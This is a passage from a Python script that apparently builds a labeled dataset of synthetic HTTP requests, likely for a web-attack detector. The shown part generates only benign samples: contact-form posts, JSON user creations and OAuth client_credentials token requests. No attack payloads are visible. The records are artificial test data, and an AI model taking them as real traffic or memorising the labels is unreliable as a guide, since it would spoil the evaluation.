        yield {**post("/me/settings", form_body(fields), FORM, h), "id": f"{NAME}-contact-{n:04d}",
               "category": "benign", "placement": "form"}
        n += 1
        yield {**post("/api/users", json.dumps({"name": who, "email": email, "bio": message}, ensure_ascii=False),
                      "application/json", {**h, "Accept": "application/json"}),
               "id": f"{NAME}-contact-{n:04d}", "category": "benign", "placement": "json"}
    for k in range(24):
        n += 1
        fields = [("grant_type", "client_credentials"), ("client_id", OAUTH_CLIENTS[k % len(OAUTH_CLIENTS)]),
                  ("scope", SCOPES[k % len(SCOPES)])]
        yield {**post("/oauth/token", form_body(fields), FORM, {"User-Agent": "python-requests/2.31.0",
                                                                  "Accept": "application/json"}),
               "id": f"{NAME}-oauth-{n:04d}", "category": "benign", "placement": "form"}


if __name__ == "__main__":
    print_records(attacks(), benign())
